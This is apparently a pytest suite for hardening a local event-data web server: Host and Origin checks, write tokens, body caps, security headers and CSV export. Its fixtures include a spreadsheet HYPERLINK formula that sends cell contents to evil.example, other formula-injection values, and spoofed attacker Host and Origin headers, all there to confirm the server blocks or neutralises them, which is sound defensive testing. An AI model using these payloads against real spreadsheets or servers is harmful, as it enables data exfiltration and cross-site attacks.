"""The server safe to expose (issue 18, part 4): Host and Origin checks, a token for writes, bounded bodies,
security headers, 4xx for bad parameters, no paths, CSV formulas neutralised, ids with "/", clustering of
stored articles, and the options of ``thucydides serve``. The live server is tests/test_web_server.py.

The store is built by hand (no model); one test codes an article."""

from __future__ import annotations

import csv
import io
import sqlite3

import pytest

from thucydides.store import Store
from thucydides.types import Actor, ActorMention, Article, Event, InputRef, Location, Modality, Sentence
from thucydides.web.security import Access, access_for

ORIGIN = "http://127.0.0.1:8000"  # the TestClient's base URL: the server's own origin
TOKEN = "correct-horse-battery-staple"
SLASH_ID = "wire/2024/05/06 kyiv?#1"
SECRET_DIR = "/home/analyst/private-corpus"
FORMULA_OUTLET = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _mention(code: str, name: str, start: int) -> ActorMention:
    return ActorMention(name, start, start + 3, 0, 0, 1, Actor(code, code[:3], "GOV", name, None, "role"), "role",
                        "test")


def _article(article_id: str, *, day: str, outlet: str, path: str, cameo: str = "190",
             source_name: str = "Russian forces", trigger: str = "shelled", place: str = "Kharkiv") -> Article:
    text = "x" * 120
    event = Event(id=f"{article_id}-e0", sentence=0, sentence_text=text, trigger_text=trigger, trigger_start=0,
                  trigger_end=3, source=_mention("RUSMIL", source_name, 0), target=_mention("UKRGOV", "Kyiv", 10),
                  sources_all=(), targets_all=(), cameo=cameo, cameo_name="", goldstein=-10.0, quad_class=4,
                  plover="ASSAULT", plover_mode=None, date=day, date_text=None, date_precision="day",
                  location=Location(place, "UKR", 50.0, 36.2, 0, 4), modality=Modality(), pattern="test")
    return Article(id=article_id, ref=InputRef(path, line=1), format="text", text=text, outlet=outlet,
                   published=day, sentences=(Sentence(0, 0, 120, 0, text),), events=(event,))


ARTICLES = (
    _article(SLASH_ID, day="2024-05-06", outlet=FORMULA_OUTLET, path=f"{SECRET_DIR}/feed.jsonl",
             source_name="+SUM(1,2)", trigger="@cmd", place="-2+3"),
    _article("plain-1", day="2024-05-07", outlet="Reuters", path=f"{SECRET_DIR}/b.txt"),
)


def _write(db: str, articles: tuple[Article, ...]) -> None:
    with Store(db) as store:
        run = store.begin_run(pipeline_version="test", settings={}, inputs=["test"])
        for article in articles:
            store.write_article(article, run, "test")
        store.cluster(window_days=3)


@pytest.fixture(scope="module")
def db_path(tmp_path_factory) -> str:
    db = str(tmp_path_factory.mktemp("hardening") / "store.db")
    _write(db, ARTICLES)
    return db


def _client(db: str, access: Access | None = None):
    from fastapi.testclient import TestClient

    from thucydides.web.app import create_app

    return TestClient(create_app(db, access=access), base_url=ORIGIN, raise_server_exceptions=False)


@pytest.fixture(scope="module")
def client(db_path):
    return _client(db_path)


@pytest.fixture(scope="module")
def token_client(db_path):
    return _client(db_path, Access(token=TOKEN))


JSON = {"content-type": "application/json"}
FORM = {"content-type": "application/x-www-form-urlencoded"}
BIG = b"x" * (3 * 1024 * 1024)

# (case, method, path, request keywords, expected status). Requests that pass every check end in the app's own
# 400 (no text), never in coding, so no model is needed.
CASES = [
    # DNS rebinding: only this server's names
    ("host: another name", "GET", "/", {"headers": {"host": "evil.example"}}, 400),
    ("host: rebound name with port", "GET", "/api/articles", {"headers": {"host": "attacker.example:8000"}}, 400),
    ("host: empty", "GET", "/api/articles", {"headers": {"host": ""}}, 400),
    ("host: bad port", "GET", "/api/articles", {"headers": {"host": "127.0.0.1:80x"}}, 400),
    ("host: localhost", "GET", "/api/articles", {"headers": {"host": "localhost:8000"}}, 200),
    ("host: IPv6 loopback", "GET", "/api/articles", {"headers": {"host": "[::1]:8000"}}, 200),
    # CSRF: writes only from this origin
    ("csrf: text/plain form from another origin", "POST", "/code",
     {"headers": {"origin": "http://evil.example", "content-type": "text/plain"}, "content": b"text=hi"}, 403),
    ("csrf: JSON from another origin", "POST", "/api/code",
     {"headers": {"origin": "http://evil.example", **JSON}, "content": b"{}"}, 403),
    ("csrf: another port of this host", "POST", "/api/code",
     {"headers": {"origin": "http://127.0.0.1:3000", **JSON}, "content": b"{}"}, 403),
    ("csrf: opaque origin", "POST", "/code", {"headers": {"origin": "null", **FORM}, "content": b"text=hi"}, 403),
    ("csrf: Sec-Fetch-Site cross-site", "POST", "/api/code",
     {"headers": {"sec-fetch-site": "cross-site", **JSON}, "content": b"{}"}, 403),
    ("csrf: Sec-Fetch-Site same-site", "POST", "/code",
     {"headers": {"sec-fetch-site": "same-site", **FORM}, "content": b"text=hi"}, 403),
    ("same origin passes to the app", "POST", "/api/code", {"headers": {"origin": ORIGIN, **JSON}, "content": b"{}"},
     400),
    ("no Origin (curl) passes to the app", "POST", "/api/code", {"headers": JSON, "content": b"{}"}, 400),
    ("form as text/plain from this origin", "POST", "/code",
     {"headers": {"origin": ORIGIN, "content-type": "text/plain"}, "content": b"text=hi"}, 415),
    # bodies: 2 MB on every route
    ("body over the cap: API", "POST", "/api/code", {"headers": JSON, "content": BIG}, 413),
    ("body over the cap: form", "POST", "/code", {"headers": FORM, "content": b"text=" + BIG}, 413),
    ("body over the cap: a GET", "GET", "/api/articles", {"content": BIG}, 413),
    # bad bodies are 400, as README says
    ("malformed JSON", "POST", "/api/code", {"headers": JSON, "content": b'{"text": '}, 400),
    ("JSON not an object", "POST", "/api/code", {"headers": JSON, "content": b"[1]"}, 400),
    ("lone surrogate in text", "POST", "/api/code", {"headers": JSON, "content": b'{"text": "a \\ud800 b"}'}, 400),
    ("lone surrogate in outlet", "POST", "/api/code",
     {"headers": JSON, "content": b'{"text": "KYIV - shelling.", "outlet": "\\udc00"}'}, 400),
    ("no article", "POST", "/api/code", {"json": {"text": ""}}, 400),
    # bad parameters are 4xx, never 500
    ("offset 2**63: articles", "GET", "/api/articles", {"params": {"offset": 2**63}}, 422),
    ("offset 2**63: events", "GET", "/api/events", {"params": {"offset": 2**63}}, 422),
    ("limit 10**30: CSV", "GET", "/api/events.csv", {"params": {"limit": 10**30}}, 422),
    ("limit 0: CSV", "GET", "/api/events.csv", {"params": {"limit": 0}}, 422),
    ("filter value over 50 KB", "GET", "/api/events", {"params": {"actor": "R" * 60_000}}, 414),
    ("filter value over 50 KB: page", "GET", "/events", {"params": {"source": "R" * 60_000}}, 414),
    ("lone surrogate in a path", "GET", "/api/articles/%ED%A0%80", {}, 404),
    ("lone surrogate in a page path", "GET", "/articles/%ED%A0%80", {}, 404),
    # ids holding "/" are reachable
    ("id with '/': API", "GET", "/api/articles/wire/2024/05/06%20kyiv%3F%231", {}, 200),
    ("id with '/' escaped: API", "GET", "/api/articles/wire%2F2024%2F05%2F06%20kyiv%3F%231", {}, 200),
    ("id with '/': page", "GET", "/articles/wire%2F2024%2F05%2F06%20kyiv%3F%231", {}, 200),
]


@pytest.mark.parametrize(("method", "path", "kwargs", "status"), [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_request_table(client, method, path, kwargs, status):
    response = client.request(method, path, **kwargs)
    assert response.status_code == status, response.text[:300]


TOKEN_CASES = [
    ("API write without a token", "POST", "/api/code", {"json": {}}, 401),
    ("API write with a wrong token", "POST", "/api/code", {"json": {}, "headers": {"authorization": "Bearer nope"}}, 401),
    ("API write with the token", "POST", "/api/code", {"json": {}, "headers": {"authorization": f"Bearer {TOKEN}"}},
     400),
    ("form without the token", "POST", "/code", {"data": {"text": ""}}, 401),
    ("form with a wrong token", "POST", "/code", {"data": {"text": "", "token": "nope"}}, 401),
    ("form with the token", "POST", "/code", {"data": {"text": "", "token": TOKEN}, "headers": {"origin": ORIGIN}},
     400),
    ("reads need no token", "GET", "/api/articles", {}, 200),
    ("pages need no token", "GET", "/code", {}, 200),
]


@pytest.mark.parametrize(("method", "path", "kwargs", "status"), [c[1:] for c in TOKEN_CASES],
                         ids=[c[0] for c in TOKEN_CASES])
def test_token_table(token_client, method, path, kwargs, status):
    response = token_client.request(method, path, **kwargs)
    assert response.status_code == status, response.text[:300]
    if status == 401:
        assert response.headers["www-authenticate"] == "Bearer"


def test_code_page_asks_for_the_token_only_when_one_is_needed(client, token_client):
    assert 'name="token"' in token_client.get("/code").text
    assert 'name="token"' not in client.get("/code").text


HEADER_CASES = [
    ("GET", "/", {}, 200), ("GET", "/api/articles", {}, 200), ("GET", "/api/events.csv", {}, 200),
    ("GET", "/docs", {}, 200), ("GET", "/api/articles/nope", {}, 404), ("GET", "/api/events.csv?limit=0", {}, 422),
    ("GET", "/", {"headers": {"host": "evil.example"}}, 400), ("POST", "/api/code", {"content": BIG}, 413),
]


@pytest.mark.parametrize(("method", "path", "kwargs", "status"), HEADER_CASES)
def test_security_headers_on_every_answer(client, method, path, kwargs, status):
    response = client.request(method, path, **kwargs)
    assert response.status_code == status
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["x-frame-options"] == "DENY"
    assert response.headers["referrer-policy"] == "same-origin"
    policy = response.headers["content-security-policy"]
    assert "frame-ancestors 'none'" in policy
    if path != "/docs":
        assert policy.startswith("default-src 'none';") and "script-src" not in policy


def test_security_headers_on_a_server_error(tmp_path):
    broken = tmp_path / "not-a-database"
    broken.mkdir()  # a directory: SQLite cannot open it, so the read is a 500
    response = _client(str(broken)).get("/api/articles")
    assert response.status_code == 500
    assert response.headers["x-content-type-options"] == "nosniff" and "content-security-policy" in response.headers


def test_no_input_paths_exposed(client):
    listing = client.get("/api/articles")
    assert {item["input"] for item in listing.json()["items"]} == {"feed.jsonl", "b.txt"}
    record = client.get("/api/articles/plain-1").json()
    assert record["input"] == {"path": "b.txt", "line": 1}
    for path in ("/api/articles", "/api/articles/plain-1", "/api/events", "/api/events.jsonl", "/api/events.csv",
                 "/api/events.gdelt", "/api/events.plover", "/", "/articles/plain-1", "/events"):
        assert SECRET_DIR not in client.get(path).text, path


def test_csv_export_neutralises_formulas(client):
    rows = list(csv.DictReader(io.StringIO(client.get("/api/events.csv").text)))
    first = next(r for r in rows if r["article_id"] == SLASH_ID)
    assert first["outlet"] == "'" + FORMULA_OUTLET
    assert (first["source_name"], first["trigger"], first["location_name"]) == ("'+SUM(1,2)", "'@cmd", "'-2+3")
    assert first["goldstein"] == "-10.0"  # a number stays a number


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("Reuters", "Reuters"), ("a=b", "a=b"), ("", ""), (-10.0, -10.0), (None, None), (4, 4),
])
def test_csv_cell(value, cell):
    from thucydides.store.query import csv_cell

    assert csv_cell(value) == cell


def test_links_to_an_id_with_a_slash_work(client):
    link = "/articles/wire%2F2024%2F05%2F06%20kyiv%3F%231"  # one path segment: no browser rewrites it
    assert f'href="{link}"' in client.get("/").text and f'href="{link}"' in client.get("/events").text
    assert client.get(link).status_code == 200


def _partition(db: str) -> set[tuple[frozenset[str], int, int, int]]:
    """Clusters as (member events, mentions, articles, sources), whatever their ids."""
    with sqlite3.connect(db) as conn:
        rows = conn.execute("SELECT c.id, ec.event_id, c.num_mentions, c.num_articles, c.num_sources FROM clusters c"
                            " JOIN event_clusters ec ON ec.cluster_id = c.id").fetchall()
    members: dict[int, set[str]] = {}
    counts: dict[int, tuple[int, int, int]] = {}
    for cluster, event, *numbers in rows:
        members.setdefault(cluster, set()).add(event)
        counts[cluster] = tuple(numbers)
    return {(frozenset(m), *counts[c]) for c, m in members.items()}


def test_stored_articles_are_clustered_like_the_command_line(tmp_path):
    from thucydides import config
    from thucydides.web.coding import store_coded

    settings = config.load()
    db = str(tmp_path / "api.db")
    _write(db, ARTICLES)
    # a third report of the same shelling, then a recoding of the second as another act, as POST /api/code does
    for article in (_article("third", day="2024-05-08", outlet="AFP", path="<api>"),
                    _article("plain-1", day="2024-05-07", outlet="Reuters", path="<api>", cameo="163")):
        with Store(db) as store:
            store_coded(store, article, settings=settings)
        with Store(db) as store:
            stored = _partition(db)
            store.cluster(window_days=3)  # what `thucydides cluster` builds from scratch
        assert stored == _partition(db)
    assert (frozenset({f"{SLASH_ID}-e0", "third-e0"}), 2, 2, 2) in _partition(db)


@pytest.mark.model
def test_api_code_stores_a_clustered_article(monkeypatch, nlp, tmp_path):
    monkeypatch.setattr("thucydides.pipeline.load_model", lambda *args, **kwargs: nlp)
    db = str(tmp_path / "model.db")
    _write(db, ARTICLES)
    client = _client(db)
    text = "KYIV, May 6 (Reuters) - Russian forces shelled Kharkiv on Monday, the Ukrainian military said."
    record = client.post("/api/code", json={"text": text, "published": "2024-05-06", "store": True}).json()
    assert record["input"] == {"path": "<api>"}
    events = [e for e in client.get("/api/events", params={"limit": 1000}).json()["items"]
              if e["article_id"] == record["id"]]
    assert events and all(e["cluster"] is not None and e["num_articles"] >= 1 for e in events)


def test_the_server_codes_one_article_at_a_time(monkeypatch, tmp_path):
    """Requests that arrive together are coded in turn, so the server keeps one worker's memory bound."""
    import threading
    import time

    from thucydides.pipeline import Coder

    running, most = [0], [0]
    guard = threading.Lock()

    def slow_chunk(self, raws):  # noqa: ANN001
        with guard:
            running[0] += 1
            most[0] = max(most[0], running[0])
        time.sleep(0.2)
        with guard:
            running[0] -= 1
        return [_article(f"a{time.monotonic_ns()}", day="2024-05-06", outlet="Reuters", path="<api>")]

    monkeypatch.setattr(Coder, "__init__", lambda self, settings=None: None)
    monkeypatch.setattr(Coder, "code_chunk", slow_chunk)
    db = str(tmp_path / "one.db")
    _write(db, ARTICLES)
    client = _client(db)
    answers: list[int] = []
    threads = [threading.Thread(target=lambda: answers.append(client.post(
        "/api/code", json={"text": "Russian forces shelled Kharkiv.", "store": False}).status_code)) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert answers == [200] * 4 and most[0] == 1


# -- the command ----------------------------------------------------------------------------------------------

ACCESS_CASES = [
    ("127.0.0.1", None, "localhost:8000", True), ("127.0.0.1", None, "10.0.0.5:8000", False),
    ("localhost", None, "127.0.0.1", True), ("::1", None, "[::1]:8000", True),
    ("0.0.0.0", TOKEN, "10.0.0.5:8000", True), ("0.0.0.0", TOKEN, "[fe80::1]:8000", True),
    ("0.0.0.0", TOKEN, "evil.example:8000", False), ("192.168.1.5", TOKEN, "192.168.1.5:8000", True),
    ("192.168.1.5", TOKEN, "10.0.0.5:8000", False),
]


@pytest.mark.parametrize(("bind", "token", "host", "accepted"), ACCESS_CASES)
def test_host_names_accepted(bind, token, host, accepted):
    from thucydides.web.security import _host_name

    assert access_for(bind, token=token).accepts_host(_host_name(host)[0]) is accepted


@pytest.mark.parametrize(("bind", "token", "message"), [
    ("0.0.0.0", None, "THUCYDIDES_TOKEN"), ("192.168.1.5", None, "writes need a token"), ("::", "", "writes need a token"),
    ("127.0.0.1", "short", "at least 16"),
])
def test_beyond_loopback_needs_a_token(bind, token, message):
    with pytest.raises(ValueError, match=message):
        access_for(bind, token=token)


def test_allowed_host_names():
    access = access_for("0.0.0.0", token=TOKEN, names=["Thucydides.Example.org"])
    assert access.accepts_host("thucydides.example.org") and not access.accepts_host("example.org")


def test_serve_beyond_loopback_warns_and_needs_a_token(db_path, monkeypatch):
    """Nothing is bound: the server's run is replaced, so only loopback is ever used."""
    from click.testing import CliRunner

    from thucydides.cli import main

    calls = []
    monkeypatch.setattr("thucydides.web.server.run", lambda app, **kwargs: calls.append((app, kwargs)))
    runner = CliRunner()
    refused = runner.invoke(main, ["serve", "--db", db_path, "--host", "0.0.0.0"], env={"THUCYDIDES_TOKEN": ""})
    assert refused.exit_code == 2 and "THUCYDIDES_TOKEN" in refused.output and not calls
    served = runner.invoke(main, ["serve", "--db", db_path, "--host", "0.0.0.0"], env={"THUCYDIDES_TOKEN": TOKEN})
    assert served.exit_code == 0, served.output
    assert "warning: serving on 0.0.0.0:8000, beyond this machine" in served.stderr
    app, kwargs = calls[-1]
    assert kwargs["host"] == "0.0.0.0" and app.access.token == TOKEN and app.access.any_ip
    local = runner.invoke(main, ["serve", "--db", db_path], env={"THUCYDIDES_TOKEN": ""})
    assert local.exit_code == 0 and "warning" not in local.stderr and calls[-1][0].access.token is None


@pytest.mark.parametrize(("setting", "message"), [
    ("max_connections = 0", "max_connections = 0 is out of range"),
    ("header_timeout = 0", "header_timeout = 0 is out of range"),
    ("max_body_bytes = 1.5", "max_body_bytes = 1.5 is not a whole number"),
])
def test_serve_checks_its_settings(db_path, monkeypatch, tmp_path, setting, message):
    from click.testing import CliRunner

    from thucydides.cli import main

    monkeypatch.setattr("thucydides.web.server.run", lambda app, **kwargs: pytest.fail("the server started"))
    path = tmp_path / "serve.toml"
    path.write_text(f"[serve]\n{setting}\n")
    result = CliRunner().invoke(main, ["serve", "--db", db_path, "--config", str(path)])
    assert result.exit_code == 2 and message in result.output
